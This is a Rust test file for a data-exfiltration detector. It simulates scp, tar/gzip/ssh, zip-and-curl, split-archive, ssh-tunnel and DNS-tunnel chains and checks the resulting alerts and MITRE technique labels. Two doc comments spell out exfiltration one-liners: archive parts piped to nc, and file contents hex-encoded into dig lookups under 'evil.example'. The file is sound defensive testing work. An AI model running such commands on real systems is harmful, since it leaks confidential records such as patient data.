//! Chains as they were measured with the real tools, the work that looks like them, and their twins.

use super::*;
use crate::detect::{Path, Place};
use crate::event::{
    Carrier, CarrierKey, CarrierKind, Edge, EdgeKind, End, FlowName, Medium, NameSource,
};

pub(in crate::detect) const JOB: u32 = 900;

fn key(pid: u32) -> ProcessKey {
    ProcessKey {
        pid,
        start_cs: u64::from(pid),
    }
}

/// A program started by another.
pub(in crate::detect) fn program(second: u64, pid: u32, parent: u32, executable: &str) -> Event {
    started(second, pid, parent, executable, |_| {})
}

pub(in crate::detect) fn started(
    second: u64,
    pid: u32,
    parent: u32,
    executable: &str,
    change: impl FnOnce(&mut Process),
) -> Event {
    let Event {
        what: What::Process(mut process),
        ..
    } = process(key(pid), Some(key(parent)), executable)
    else {
        unreachable!("process() makes a process");
    };
    process.given_bytes = 2_000;
    process.started_ns = at(second);
    change(&mut process);
    event(at(second), What::Process(process))
}

pub(in crate::detect) fn takes(second: u64, pid: u32, record: u64, bytes: u64) -> Event {
    let Event {
        what: What::Access(mut access),
        ..
    } = read(second, record, bytes)
    else {
        unreachable!("read() makes an access");
    };
    access.process = key(pid);
    event(at(second), What::Access(access))
}

fn carrier(kind: CarrierKind, inode: u64, path: &str) -> End {
    End::Carrier(Carrier {
        key: CarrierKey {
            kind,
            device: 13,
            inode,
            generation: 0,
        },
        path: path.into(),
        medium: Medium::Fixed,
    })
}

pub(in crate::detect) fn pipe(inode: u64) -> End {
    carrier(CarrierKind::Pipe, inode, "")
}

pub(in crate::detect) fn file(inode: u64, path: &str) -> End {
    carrier(CarrierKind::File, inode, path)
}

fn edge(second: u64, kind: EdgeKind, from: End, to: End, bytes: u64) -> Event {
    let edge = Edge {
        from,
        to,
        kind,
        stores: Vec::new(),
        times: 1,
        bytes,
        first_ns: at(second),
        last_ns: at(second),
    };
    event(at(second), What::Edge(edge))
}

pub(in crate::detect) fn writes(second: u64, pid: u32, to: End, bytes: u64) -> Event {
    edge(second, EdgeKind::Write, End::Process(key(pid)), to, bytes)
}

pub(in crate::detect) fn gets(second: u64, pid: u32, from: End, bytes: u64) -> Event {
    edge(second, EdgeKind::Read, from, End::Process(key(pid)), bytes)
}

pub(in crate::detect) fn hands(
    second: u64,
    kind: EdgeKind,
    from: u32,
    to: u32,
    bytes: u64,
) -> Event {
    edge(
        second,
        kind,
        End::Process(key(from)),
        End::Process(key(to)),
        bytes,
    )
}

pub(in crate::detect) fn sends(second: u64, pid: u32, bytes: u64) -> Event {
    sent_by(second, bytes, |flow| {
        flow.process = key(pid);
        flow.id = u64::from(pid);
        flow.opened_ns = at(second);
    })
}

pub(in crate::detect) fn ends(second: u64, pid: u32, parent: u32, executable: &str) -> Event {
    let Event {
        what: What::Process(process),
        ..
    } = program(1, pid, parent, executable)
    else {
        unreachable!("program() makes a process");
    };
    event(
        at(second),
        What::Process(Process {
            exited_ns: Some(at(second)),
            ..process
        }),
    )
}

fn session() -> Vec<Event> {
    vec![
        process(ROOT, None, "/sbin/init"),
        started(0, JOB, 1, "/bin/bash", |process| {
            process.parent = Some(ROOT);
        }),
    ]
}

pub(in crate::detect) fn job(events: Vec<Event>) -> Vec<Event> {
    [session(), events].concat()
}

/// The only alert there is, as it was last told.
fn only(events: &[Event]) -> Alert {
    let alerts = detect(config(), &[events.to_vec()]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0].pattern, "chain");
    alerts[0].clone()
}

fn none(events: Vec<Event>) {
    let alerts = detect(config(), &[events]);
    assert!(alerts.is_empty(), "{alerts:#?}");
}

fn pids(path: &Path) -> Vec<u32> {
    let froms = path.steps.iter().map(|step| &step.from);
    let mut pids: Vec<u32> = froms
        .filter_map(|place| match place {
            Place::Process(key) => Some(key.pid),
            Place::Store | Place::Carrier(_) | Place::Destination => None,
        })
        .collect();
    pids.dedup();
    pids
}

pub(in crate::detect) fn techniques(alert: &Alert) -> Vec<&str> {
    alert.techniques.iter().map(|t| t.id).collect()
}

fn scp() -> Vec<Event> {
    job(vec![
        program(1, 1000, JOB, "/usr/bin/scp"),
        program(1, 1001, 1000, "/usr/bin/ssh"),
        takes(2, 1000, 1, 2_000_000),
        takes(2, 1000, 2, 2_281_604),
        hands(2, EdgeKind::UnixSocket, 1000, 1001, 4_300_000),
        sends(3, 1001, 4_580_000),
    ])
}

#[test]
fn scp_reads_and_ssh_sends() {
    let alert = only(&scp());
    assert_eq!(
        (alert.figures.records, alert.figures.bytes_read),
        (2, 4_281_604)
    );
    assert_eq!(alert.figures.bytes_sent, 4_580_000);
    assert_eq!(alert.chain[0].key.pid, 1001);
    assert_eq!(pids(&alert.path), [1000, 1001]);
    assert_eq!(techniques(&alert), ["T1005", "T1048.002"]);
    for part in [
        "\"scp\", run by user anna",
        "2 patient records",
        "to ssh, which sent 4.58 MB",
        "203.0.113.9",
    ] {
        assert!(alert.story.contains(part), "{part:?}: {}", alert.story);
    }
}

#[test]
fn what_a_login_shows_is_sent_by_who_reads_the_terminal() {
    let alert = only(&job(vec![
        program(1, 1000, JOB, "/usr/bin/cat"),
        program(1, 1001, JOB, "/usr/sbin/sshd"),
        takes(2, 1000, 1, 2_000_000),
        hands(2, EdgeKind::Terminal, 1000, 1001, 2_000_000),
        sends(3, 1001, 2_100_000),
    ]));
    assert_eq!(pids(&alert.path), [1000, 1001]);
    let story = &alert.story;
    assert!(
        story.contains("showed them on a terminal to sshd"),
        "{story}"
    );
}

fn tar_gzip_ssh() -> Vec<Event> {
    job(vec![
        program(1, 1000, JOB, "/usr/bin/tar"),
        program(1, 1001, JOB, "/usr/bin/gzip"),
        program(1, 1002, JOB, "/usr/bin/ssh"),
        takes(2, 1000, 1, 4_281_604),
        writes(2, 1000, pipe(1), 4_500_000),
        gets(2, 1001, pipe(1), 4_500_000),
        writes(2, 1001, pipe(2), 2_100_000),
        gets(2, 1002, pipe(2), 2_100_000),
        sends(3, 1002, 2_150_000),
    ])
}

#[test]
fn an_ssh_that_forwards_ports_is_a_tunnel() {
    for (arguments, expect) in [
        (&["ssh", "-N", "-L", "127.0.0.1:9:h:9", "h"][..], true),
        (&["ssh", "-fNR9:h:9", "h"], true),
        (&["ssh", "-D1080", "h"], true),
        (&["ssh", "-i", "key", "-D", "1080", "h"], true),
        (&["ssh", "-i", "key", "h", "cat"], false),
        (&["ssh", "-i", "key", "h", "grep", "-R", "x"], false),
        (&["ssh", "-lDora", "h"], false),
        (&["ssh", "--", "h"], false),
    ] {
        let tunnel = started(1, 1002, JOB, "/usr/bin/ssh", |process| {
            process.arguments = arguments.iter().map(|text| (*text).to_owned()).collect();
        });
        let alert = only(&[tar_gzip_ssh(), vec![tunnel]].concat());
        let named = techniques(&alert).contains(&"T1572");
        assert_eq!(named, expect, "{arguments:?}");
    }
}

/// Where it leads to is behind the tunnel, so little is enough.
#[test]
fn little_through_a_tunnel_is_an_alert() {
    for (option, expect) in [("-NR9:h:9", 1), ("-N", 0)] {
        let events = job(vec![
            program(1, 1000, JOB, "/usr/bin/cat"),
            started(1, 1001, JOB, "/usr/bin/ssh", |process| {
                process.arguments = ["ssh", option, "h"].map(str::to_owned).to_vec();
            }),
            takes(2, 1000, 1, 9_000),
            hands(2, EdgeKind::Loopback, 1000, 1001, 9_000),
            sends(3, 1001, 9_500),
        ]);
        let alerts = detect(config(), &[events]);
        assert_eq!(alerts.len(), expect, "{option}");
        let told = alerts
            .iter()
            .all(|alert| alert.measured_by.contains("8.19 kB"));
        assert!(told, "the thresholds that held");
    }
}

/// A program of somebody else that gives records over a socket was asked for them.
#[test]
fn records_out_of_a_program_of_another_user_are_out_of_a_repository() {
    let collected = |parent: u32, user: u32, session: u32| {
        let alert = only(&job(vec![
            started(1, 1000, parent, "/usr/bin/postgres", |process| {
                process.uid = user;
                process.session = Some(session);
            }),
            program(1, 1001, JOB, "/usr/bin/pg_dump"),
            takes(2, 1000, 1, 3_000_000),
            hands(2, EdgeKind::UnixSocket, 1000, 1001, 3_000_000),
            sends(3, 1001, 3_000_000),
        ]));
        techniques(&alert)[0].to_owned()
    };
    assert_eq!(collected(1, 110, 3), "T1213");
    assert_eq!(collected(1, 1001, 9), "T1213", "another session");
    assert_eq!(collected(JOB, 1001, 3), "T1005", "a pipe by another name");
    assert_eq!(collected(1001, 110, 9), "T1005", "it was started for it");
}

#[test]
fn a_script_that_packs_is_named_as_the_program_is() {
    for (arguments, expect) in [
        (["python3", "-sE", "/usr/bin/borg", "create"], true),
        (["python3", "-sE", "/usr/bin/other", "borg"], false),
    ] {
        let alert = only(&job(vec![
            started(1, 1000, JOB, "/usr/bin/python3.11", |process| {
                process.arguments = arguments.map(str::to_owned).to_vec();
            }),
            takes(2, 1000, 1, 4_000_000),
            program(1, 1001, 1000, "/usr/bin/ssh"),
            hands(2, EdgeKind::UnixSocket, 1000, 1001, 4_000_000),
            sends(3, 1001, 4_000_000),
        ]));
        assert_eq!(techniques(&alert).contains(&"T1560.001"), expect);
    }
}

#[test]
fn parts_of_a_size_and_jobs_of_a_clock_are_named() {
    let named = |reader: &[&str], starter: &str| {
        let alert = only(&job(vec![
            program(0, 800, 1, starter),
            started(1, 1000, JOB, reader[0], |process| {
                process.arguments = reader.iter().map(|text| (*text).to_owned()).collect();
            }),
            takes(2, 1000, 1, 4_000_000),
            program(1, 1001, 800, "/usr/bin/ssh"),
            hands(2, EdgeKind::UnixSocket, 1000, 1001, 4_000_000),
            sends(3, 1001, 4_000_000),
        ]));
        let all = techniques(&alert);
        ["T1030", "T1029"].map(|id| all.contains(&id))
    };
    for (reader, starter, expect) in [
        (
            &["/usr/bin/split", "-b", "40k"][..],
            "/bin/bash",
            [true, false],
        ),
        (&["/usr/bin/7z", "a", "-v100k"], "/bin/bash", [true, false]),
        (
            &["/usr/bin/7z", "a", "-verbose"],
            "/bin/bash",
            [false, false],
        ),
        (&["/usr/bin/tar", "-v1"], "/usr/sbin/cron", [false, true]),
    ] {
        assert_eq!(named(reader, starter), expect, "{reader:?} {starter}");
    }
}

#[test]
fn a_file_on_what_can_be_carried_away_is_named() {
    for (medium, expect) in [(Medium::Removable, true), (Medium::Fixed, false)] {
        let mut stick = file(5, "/media/stick/x.zip");
        if let End::Carrier(carrier) = &mut stick {
            carrier.medium = medium;
        }
        let events = job(vec![
            program(1, 1000, JOB, "/usr/bin/zip"),
            takes(2, 1000, 1, 4_281_604),
            writes(2, 1000, stick.clone(), 2_120_000),
            program(3, 1001, JOB, "/usr/bin/curl"),
            gets(3, 1001, stick, 2_120_000),
            sends(4, 1001, 2_060_000),
        ]);
        // That it was put there is an alert of its own.
        let alerts = detect(config(), &[events]);
        assert_eq!(alerts.len(), 1 + usize::from(expect));
        let chain = alerts
            .iter()
            .find(|alert| alert.pattern == "chain")
            .unwrap();
        assert_eq!(techniques(chain).contains(&"T1052.001"), expect);
    }
}

#[test]
fn tar_gzip_and_ssh_are_one_path_of_pipes() {
    let alert = only(&tar_gzip_ssh());
    assert_eq!(pids(&alert.path), [1000, 1001, 1002]);
    assert_eq!(techniques(&alert), ["T1005", "T1560.001", "T1048.002"]);
    let bytes: Vec<Option<u64>> = alert.path.steps.iter().map(|step| step.bytes).collect();
    assert_eq!(
        bytes,
        [
            4_281_604, 4_500_000, 4_500_000, 2_100_000, 2_100_000, 2_150_000
        ]
        .map(Some)
    );
    let part = "handed them through a pipe to gzip, which handed them through a pipe to ssh, which sent 2.15 MB";
    assert!(alert.story.contains(part), "{}", alert.story);
    let ancestors: Vec<u32> = alert.chain.iter().map(|link| link.key.pid).collect();
    assert_eq!(ancestors, [1002, JOB, 1]);
    let others: Vec<u32> = alert.path.processes.iter().map(|l| l.key.pid).collect();
    assert_eq!(others, [1000, 1001]);
}

#[test]
fn zip_and_curl_are_joined_by_a_file_though_both_readers_and_file_are_gone() {
    let alert = only(&job(vec![
        program(1, 1000, JOB, "/usr/bin/zip"),
        takes(2, 1000, 1, 4_281_604),
        writes(2, 1000, file(5, "/tmp/.x.zip"), 2_120_000),
        ends(3, 1000, JOB, "/usr/bin/zip"),
        program(1_000, 1001, JOB, "/usr/bin/curl"),
        gets(1_000, 1001, file(5, "/tmp/.x.zip"), 2_120_000),
        sends(1_001, 1001, 2_060_000),
    ]));
    assert_eq!(
        techniques(&alert),
        ["T1005", "T1074.001", "T1560.001", "T1048"]
    );
    let part = "put them into the file /tmp/.x.zip, from where they came to curl, which sent";
    assert!(alert.story.contains(part), "{}", alert.story);
}

fn parts() -> Vec<Vec<Event>> {
    let mut blocks = vec![job(vec![
        program(1, 1000, JOB, "/usr/bin/7z"),
        takes(2, 1000, 1, 4_000_000),
        writes(2, 1000, file(5, "/tmp/a.7z"), 1_000_000),
        program(3, 1001, JOB, "/usr/bin/split"),
        gets(4, 1001, file(5, "/tmp/a.7z"), 1_000_000),
    ])];
    for part in 0..10 {
        let (pid, second) = (1_100 + part, u64::from(10 + part));
        let end = || file(100 + u64::from(part), "/tmp/part");
        blocks.push(vec![
            writes(4, 1001, end(), 100_000),
            program(second, pid, JOB, "/usr/bin/curl"),
            gets(second, pid, end(), 100_000),
            sends(second, pid, 100_300),
            ends(second, pid, JOB, "/usr/bin/curl"),
        ]);
    }
    blocks
}

#[test]
fn parts_that_are_sent_one_by_one_are_one_alert_that_grows() {
    let alerts = detect(config(), &parts());
    assert!(alerts.len() > 1);
    assert!(alerts.iter().all(|alert| alert.id == alerts[0].id));
    let last = alerts.last().unwrap();
    assert_eq!((last.figures.bytes_sent, last.flows), (1_003_000, 10));
    assert_eq!(
        (last.figures.records, last.figures.bytes_read),
        (1, 4_000_000)
    );
    assert!(
        last.story.contains("10 programs sent them"),
        "{}",
        last.story
    );
}

#[test]
fn what_was_copied_packed_and_renamed_is_followed() {
    let alert = only(&job(vec![
        program(1, 1000, JOB, "/usr/bin/cp"),
        takes(2, 1000, 1, 993_601),
        writes(2, 1000, file(5, "/tmp/stage/1"), 993_601),
        program(3, 1001, JOB, "/usr/bin/tar"),
        gets(4, 1001, file(5, "/tmp/stage/1"), 993_601),
        writes(4, 1001, file(6, "/tmp/s.tgz"), 500_000),
        program(5, 1002, JOB, "/usr/bin/scp"),
        gets(6, 1002, file(6, "/tmp/.hidden"), 500_000),
        program(6, 1003, 1002, "/usr/bin/ssh"),
        hands(6, EdgeKind::UnixSocket, 1002, 1003, 510_000),
        sends(7, 1003, 530_000),
    ]));
    assert_eq!(pids(&alert.path), [1000, 1001, 1002, 1003]);
    assert!(
        alert.story.contains("/tmp/.hidden"),
        "where it lay last: {}",
        alert.story
    );
}

/// `for part in q.*; do cat $part; done | nc`: each program has a part, the pipe has all of them.
#[test]
fn an_archive_in_parts_goes_through_one_pipe() {
    let mut events = vec![
        program(1, 1000, JOB, "/usr/bin/tar"),
        takes(2, 1000, 1, 993_601),
        writes(2, 1000, file(6, "/tmp/a"), 500_000),
        program(3, 1001, JOB, "/usr/bin/split"),
        gets(3, 1001, file(6, "/tmp/a"), 500_000),
        program(3, 1002, JOB, "/usr/bin/nc"),
    ];
    for n in 0..100 {
        let (pid, part) = (1_100 + n, file(100 + u64::from(n), "/tmp/q"));
        events.extend([
            writes(4, 1001, part.clone(), 5_000),
            program(5, pid, JOB, "/usr/bin/cat"),
            gets(5, pid, part, 5_000),
            writes(5, pid, pipe(9), 5_000),
        ]);
    }
    events.extend([gets(6, 1002, pipe(9), 500_000), sends(7, 1002, 500_000)]);
    let alert = only(&job(events));
    assert_eq!(
        (alert.figures.bytes_read, alert.figures.bytes_sent),
        (993_601, 500_000)
    );
}

#[test]
fn a_database_and_a_service_hand_on_over_sockets() {
    for (kind, reader) in [
        (EdgeKind::UnixSocket, "/usr/lib/postgresql/postgres"),
        (EdgeKind::Loopback, "/usr/sbin/Orthanc"),
    ] {
        let serves = |process: &mut Process| {
            process.unit = "archive.service".into();
            process.session = None;
            process.parent = Some(ROOT);
        };
        let alert = only(&job(vec![
            started(0, 500, 1, reader, serves),
            takes(2, 500, 1, 3_400_000),
            program(1, 1000, JOB, "/usr/bin/client"),
            hands(2, kind, 500, 1000, 71_700_000),
            sends(3, 1000, 20_000_000),
        ]));
        let processes: Vec<u32> = alert.path.processes.iter().map(|l| l.key.pid).collect();
        assert_eq!(processes, [500], "the reader is of another lineage");
        assert!(alert.story.contains("within the computer to client"));
    }
}

fn of_store(mut event: Event) -> Event {
    if let What::Edge(edge) = &mut event.what {
        edge.stores = vec!["pacs".to_owned()];
    }
    event
}

#[test]
fn who_hands_on_what_it_got_in_the_same_block_serves_nothing_of_its_own() {
    let alert = only(&job(vec![
        program(1, 1000, JOB, "/usr/bin/zip"),
        program(1, 1001, JOB, "/usr/bin/scp"),
        program(1, 1002, 1001, "/usr/bin/ssh"),
        takes(2, 1000, 1, 4_281_604),
        writes(2, 1000, file(5, "/tmp/.x.zip"), 2_120_000),
        gets(2, 1001, file(5, "/tmp/.x.zip"), 2_120_000),
        of_store(hands(2, EdgeKind::UnixSocket, 1001, 1002, 2_130_000)),
        sends(3, 1002, 2_200_000),
    ]));
    let figures = (alert.figures.records, alert.figures.bytes_read);
    assert_eq!(figures, (1, 4_281_604));
    assert!(alert.at_least.is_empty(), "{:?}", alert.at_least);
}

#[test]
fn what_a_service_gives_out_of_its_memory_was_read_of_its_store() {
    let served = |second, bytes| of_store(hands(second, EdgeKind::Loopback, 500, 1000, bytes));
    let alert = only(&job(vec![
        program(0, 500, 1, "/usr/sbin/Orthanc"),
        program(1, 1000, JOB, "/usr/bin/curl"),
        served(2, 400_000),
        served(3, 600_000),
        sends(4, 1000, 900_000),
    ]));
    assert_eq!(alert.figures.bytes_read, 1_000_000);
    assert_eq!(alert.figures.records, 0, "which records nobody can tell");
    assert!(!alert.at_least.is_empty());
    // One that was seen to read handed on what it read, and its talk is no record.
    none(job(vec![
        program(0, 500, 1, "/usr/sbin/Orthanc"),
        takes(1, 500, 1, 5_000),
        program(1, 1000, JOB, "/usr/bin/curl"),
        served(2, 1_000_000),
        sends(4, 1000, 900_000),
    ]));
}

#[test]
fn work_that_looks_like_it_is_left_alone() {
    // A line in a log.
    none(job(vec![
        program(1, 1000, JOB, "/usr/sbin/Orthanc"),
        takes(2, 1000, 1, 4_000_000),
        program(1, 1001, JOB, "/usr/bin/logger"),
        writes(2, 1000, pipe(1), 100),
        gets(2, 1001, pipe(1), 100),
        sends(3, 1001, 900_000),
    ]));
    // A count.
    none(job(vec![
        program(1, 1000, JOB, "/usr/bin/wc"),
        takes(2, 1000, 1, 4_000_000),
        writes(2, 1000, pipe(1), 5),
        gets(2, JOB, pipe(1), 5),
        program(3, 1001, JOB, "/usr/bin/curl"),
        sends(4, 1001, 900_000),
    ]));
    // An archive that stays.
    none(job(vec![
        program(1, 1000, JOB, "/usr/bin/zip"),
        takes(2, 1000, 1, 4_281_604),
        writes(2, 1000, file(5, "/srv/backup.zip"), 2_120_000),
    ]));
    // What was sent before it came.
    none(job(vec![
        program(1, 1000, JOB, "/usr/bin/tar"),
        program(1, 1001, JOB, "/usr/bin/nc"),
        sends(2, 1001, 900_000),
        takes(4, 1000, 1, 4_000_000),
        writes(5, 1000, pipe(1), 4_000_000),
        gets(5, 1001, pipe(1), 4_000_000),
    ]));
    // A step that was over before the one that leads to it.
    none(job(vec![
        program(1, 1000, JOB, "/usr/bin/tar"),
        program(1, 1001, JOB, "/usr/bin/nc"),
        gets(2, 1001, pipe(1), 4_000_000),
        takes(4, 1000, 1, 4_000_000),
        writes(5, 1000, pipe(1), 4_000_000),
        sends(6, 1001, 900_000),
    ]));
}

#[test]
fn a_program_that_has_another_send_for_it_is_approved_by_its_own_name() {
    let backup = |parent| {
        job(vec![
            program(1, 1000, JOB, "/usr/bin/rsync"),
            program(1, 1001, parent, "/usr/bin/ssh"),
            takes(2, 1000, 1, 4_000_000),
            hands(2, EdgeKind::UnixSocket, 1000, 1001, 4_000_000),
            sends(3, 1001, 4_000_000),
        ])
    };
    let config = |executable: &str| DetectConfig {
        approved: vec![ApprovedWay {
            name: "nightly".into(),
            store: "pacs".into(),
            executable: executable.into(),
            reader: None,
            user: "anna".into(),
            destination: "203.0.113.9/32:443".parse().unwrap(),
            schedule: None,
            bytes_max: None,
        }],
        ..config()
    };
    assert!(detect(config("/usr/bin/rsync"), &[backup(1000)]).is_empty());
    let alerts = |executable, parent| detect(config(executable), &[backup(parent)]).len();
    assert_eq!(alerts("/usr/bin/rsync", JOB), 1, "nothing to do with it");
    assert_eq!(alerts("/tmp/rsync", 1000), 1);
}

#[test]
fn a_chain_is_approved_with_its_reader_and_its_twins_alert() {
    let backup = |reader: &str, sender: &str| {
        job(vec![
            program(1, 1000, JOB, reader),
            program(1, 1001, 1000, sender),
            takes(2, 1000, 1, 4_000_000),
            hands(2, EdgeKind::UnixSocket, 1000, 1001, 4_000_000),
            sends(3, 1001, 4_000_000),
        ])
    };
    let usual = || backup("/usr/bin/rsync", "/usr/bin/ssh");
    let way = ApprovedWay {
        name: "nightly".into(),
        store: "pacs".into(),
        executable: "/usr/bin/ssh".into(),
        reader: Some("/usr/bin/rsync".into()),
        user: "anna".into(),
        destination: "203.0.113.9/32:443".parse().unwrap(),
        schedule: None,
        bytes_max: None,
    };
    let with = |way: &ApprovedWay| DetectConfig {
        approved: vec![way.clone()],
        ..config()
    };
    let mut detector = Detector::new(with(&way));
    assert!(detector.block(&block(usual())).is_empty());
    assert_eq!(detector.learned().0.ways["nightly"].days.len(), 1);
    let twins = [
        ApprovedWay {
            reader: None,
            ..way.clone()
        },
        ApprovedWay {
            reader: Some("/tmp/rsync".into()),
            ..way.clone()
        },
        ApprovedWay {
            executable: "/tmp/ssh".into(),
            ..way.clone()
        },
        ApprovedWay {
            user: "backup".into(),
            ..way.clone()
        },
        ApprovedWay {
            store: "ehr".into(),
            ..way.clone()
        },
        ApprovedWay {
            destination: "203.0.113.9/32:22".parse().unwrap(),
            ..way.clone()
        },
    ];
    for twin in twins {
        assert_eq!(detect(with(&twin), &[usual()]).len(), 1, "{twin:?}");
    }
    for other in [
        backup("/usr/bin/tar", "/usr/bin/ssh"),
        backup("/usr/bin/rsync", "/usr/bin/nc"),
    ] {
        assert_eq!(detect(with(&way), &[other]).len(), 1);
    }
    let beside = [
        usual(),
        vec![
            program(1, 1002, JOB, "/usr/bin/tar"),
            program(1, 1003, JOB, "/usr/bin/nc"),
            takes(2, 1002, 2, 300_000),
            hands(2, EdgeKind::UnixSocket, 1002, 1003, 300_000),
            sends(3, 1003, 300_000),
        ],
    ]
    .concat();
    let alerts = detect(with(&way), &[beside]);
    assert_eq!(alerts.len(), 1);
    let (figures, flows) = (alerts[0].figures, alerts[0].flows);
    assert_eq!(
        (figures.bytes_read, figures.bytes_sent, flows),
        (300_000, 300_000, 1),
        "only what is not approved counts"
    );
    let own = [
        family(),
        vec![
            process(THIEF, Some(SHELL), "/usr/bin/ssh"),
            read(2, 1, 99_000),
            sent(3, 99_000, true),
        ],
    ]
    .concat();
    assert_eq!(
        detect(with(&way), &[own]).len(),
        1,
        "a way with a reader is none for what the sender reads itself"
    );
}

#[test]
fn who_reads_enough_itself_is_left_to_direct() {
    let alerts = detect(
        config(),
        &[job(vec![
            program(1, 1000, JOB, "/usr/bin/tar"),
            program(1, 1001, JOB, "/usr/bin/curl"),
            takes(2, 1000, 1, 4_000_000),
            takes(2, 1001, 2, 100_000),
            writes(2, 1000, pipe(1), 4_000_000),
            gets(2, 1001, pipe(1), 4_000_000),
            sends(3, 1001, 4_000_000),
        ])],
    );
    let patterns: Vec<&str> = alerts.iter().map(|alert| alert.pattern).collect();
    assert_eq!(patterns, ["direct"]);
}

#[test]
fn it_ends_the_same_however_the_log_is_cut() {
    for chain in [scp(), tar_gzip_ssh(), parts().concat()] {
        let whole = detect(config(), std::slice::from_ref(&chain));
        let single: Vec<Vec<Event>> = chain.iter().map(|event| vec![event.clone()]).collect();
        let pairs: Vec<Vec<Event>> = chain.chunks(2).map(<[Event]>::to_vec).collect();
        for cut in [single, pairs] {
            let alerts = detect(config(), &cut);
            let (last, whole) = (alerts.last().unwrap(), whole.last().unwrap());
            assert_eq!(
                (last.id, last.figures, &last.path, &last.story),
                (whole.id, whole.figures, &whole.path, &whole.story)
            );
        }
    }
}

fn asks(second: u64, pid: u32, name: &str) -> Event {
    sent_by(second, 110, |flow| {
        flow.process = key(pid);
        flow.id = u64::from(pid);
        flow.protocol = 17;
        flow.remote = "10.0.0.53:53".parse().unwrap();
        flow.opened_ns = at(second);
        flow.name = Some(FlowName {
            source: NameSource::Question,
            name: name.into(),
        });
    })
}

/// `for d in $(head -c 3000 f | xxd -p -c 30); do dig $d.evil.example; done`
fn dig(name: impl Fn(u32) -> String) -> Vec<Event> {
    let mut events = job(vec![
        program(1, 1000, JOB, "/usr/bin/head"),
        program(1, 1001, JOB, "/usr/bin/xxd"),
        takes(2, 1000, 1, 3_000),
        writes(2, 1000, pipe(1), 3_000),
        gets(2, 1001, pipe(1), 3_000),
        writes(2, 1001, pipe(2), 6_100),
        gets(2, JOB, pipe(2), 6_100),
    ]);
    for n in 0..100 {
        let (pid, second) = (1_100 + n, 3 + u64::from(n) / 10);
        events.push(program(second, pid, JOB, "/usr/bin/dig"));
        events.push(asks(second, pid, &name(n)));
    }
    events
}

#[test]
fn a_page_that_leaves_as_names_is_found() {
    let alerts = detect(config(), &[dig(|n| format!("{n:060}.evil.example"))]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let alert = &alerts[0];
    assert_eq!(alert.pattern, "dns");
    assert_eq!(
        (alert.figures.records, alert.figures.bytes_read),
        (1, 3_000)
    );
    assert_eq!(alert.flows, 100);
    assert_eq!(
        alert.destination_name.as_ref().unwrap().name,
        "evil.example"
    );
    assert_eq!(techniques(alert), ["T1005", "T1048.003", "T1071.004"]);
    for part in [
        "started, with them, dig",
        "100 names below \"evil.example\"",
    ] {
        assert!(alert.story.contains(part), "{part:?}: {}", alert.story);
    }
}

#[test]
fn who_reads_a_page_and_asks_itself_is_named() {
    let mut events = job(vec![
        program(1, 1000, JOB, "/usr/bin/perl"),
        takes(2, 1000, 1, 3_000),
    ]);
    events.extend((0..40).map(|n| asks(3, 1000, &format!("{n:060}.evil.example"))));
    let alerts = detect(config(), &[events]);
    let patterns: Vec<&str> = alerts.iter().map(|alert| alert.pattern).collect();
    assert_eq!(patterns, ["dns"]);
    let alert = &alerts[0];
    assert!(
        alert.story.contains("the program \"perl\", run by user"),
        "{}",
        alert.story
    );
    let reasons = &alert.severity.reasons;
    assert!(
        reasons[0].starts_with("One process both read"),
        "{reasons:?}"
    );
    assert!(
        reasons[1].starts_with("1 distinct record was read"),
        "{reasons:?}"
    );
}

#[test]
fn much_that_leaves_as_names_is_one_alert_too() {
    let mut events = dig(|n| format!("{n:060}.evil.example"));
    for event in &mut events {
        match &mut event.what {
            What::Access(access) => access.bytes_read *= 100,
            What::Edge(edge) => edge.bytes *= 100,
            What::Flow(flow) => flow.bytes_out *= 100,
            What::Process(process) => process.given_bytes *= 100,
            What::Gap(_) | What::Tamper(_) | What::Conflict(_) => {}
        }
    }
    let alerts = detect(config(), &[events]);
    let patterns: Vec<&str> = alerts.iter().map(|alert| alert.pattern).collect();
    assert_eq!(patterns, ["dns"]);
}

#[test]
fn names_that_are_names_are_left_alone() {
    none(dig(|n| format!("www{n}.hospital.example")));
    none(dig(|n| format!("{n:060}.d{n}.example")));
    let mut more = config();
    more.dns.names = 101;
    let alerts = detect(more, &[dig(|n| format!("{n:060}.evil.example"))]);
    assert!(
        alerts.is_empty(),
        "100 are fewer than configured: {alerts:#?}"
    );
    let mut before = dig(|n| format!("{n:060}.evil.example"));
    before.retain(|event| !matches!(event.what, What::Access(_)));
    none(before);
}
